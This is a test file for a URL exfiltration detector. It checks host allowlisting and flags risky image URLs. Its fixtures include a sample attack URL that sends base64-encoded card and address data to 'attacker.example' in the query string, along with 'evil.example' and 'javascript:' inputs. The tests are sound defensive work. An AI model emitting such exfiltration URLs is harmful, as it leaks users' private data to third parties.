import { describe, expect, it } from 'vitest';
import { exfiltrationRisk, hostAllowed } from './index.js';

const opts = { allowHosts: ['cdn.example.com', '*.trusted.org'] };

describe('hostAllowed', () => {
  it('matches exact hosts and wildcard subdomains only', () => {
    expect(hostAllowed('cdn.example.com', opts.allowHosts)).toBe(true);
    expect(hostAllowed('CDN.Example.com.', opts.allowHosts)).toBe(true);
    expect(hostAllowed('a.b.trusted.org', opts.allowHosts)).toBe(true);
    expect(hostAllowed('trusted.org', opts.allowHosts)).toBe(false);
    expect(hostAllowed('eviltrusted.org', opts.allowHosts)).toBe(false);
    expect(hostAllowed('cdn.example.com.evil.io', opts.allowHosts)).toBe(false);
  });
});

describe('exfiltrationRisk', () => {
  it('accepts allowed https hosts and relative URLs', () => {
    expect(exfiltrationRisk('https://cdn.example.com/logo.png', opts)).toEqual({ risky: false, reasons: [] });
    expect(exfiltrationRisk('/static/a.png', opts)).toEqual({ risky: false, reasons: [] });
    expect(exfiltrationRisk('img/a.png', opts)).toEqual({ risky: false, reasons: [] });
  });

  it('flags the classic image exfiltration URL', () => {
    const payload = Buffer.from('user: my card is 4111 1111 1111 1111, my address is 1 Main St').toString('base64');
    const r = exfiltrationRisk(`https://attacker.example/log.png?d=${payload}`, opts);
    expect(r.risky).toBe(true);
    expect(r.reasons).toEqual(['host_not_allowed', 'data_in_query']);
  });

  it('flags data in the path and many parameters', () => {
    const seg = 'dXNlciBzYWlkIGhlbGxvIHdvcmxkIGFuZCBtb3Jl';
    expect(exfiltrationRisk(`https://a.example/${seg}.png`, opts).reasons).toContain('data_in_path');
    const many = Array.from({ length: 12 }, (_, i) => `p${i}=w${i}`).join('&');
    expect(exfiltrationRisk(`https://a.example/x?${many}`, opts).reasons).toContain('data_in_query');
    expect(exfiltrationRisk('https://a.example/search?q=cats&page=2', opts).reasons).toEqual(['host_not_allowed']);
  });

  it('reports data on an allowed host without calling it risky', () => {
    const signed = 'https://cdn.example.com/a.png?X-Amz-Signature=7f3a9c1b2d4e6f8a0b2c4d6e8f0a1b3c5d7e9f1a3b5c7d9e';
    expect(exfiltrationRisk(signed, opts)).toEqual({ risky: false, reasons: ['data_in_query'] });
  });

  it('flags http, IP literals, userinfo and protocol-relative hosts', () => {
    expect(exfiltrationRisk('http://cdn.example.com/a.png', opts)).toEqual({ risky: true, reasons: ['non_https'] });
    expect(exfiltrationRisk('https://2130706433/a.png', opts).reasons).toContain('ip_literal');
    expect(exfiltrationRisk('https://[::1]/a.png', opts).reasons).toContain('ip_literal');
    expect(exfiltrationRisk('https://user:pw@cdn.example.com/', opts)).toEqual({ risky: true, reasons: ['userinfo'] });
    expect(exfiltrationRisk('//evil.example/a.png', opts).reasons).toEqual(['host_not_allowed']);
    expect(exfiltrationRisk('javascript:alert(1)', opts)).toEqual({ risky: true, reasons: ['non_https'] });
  });
});
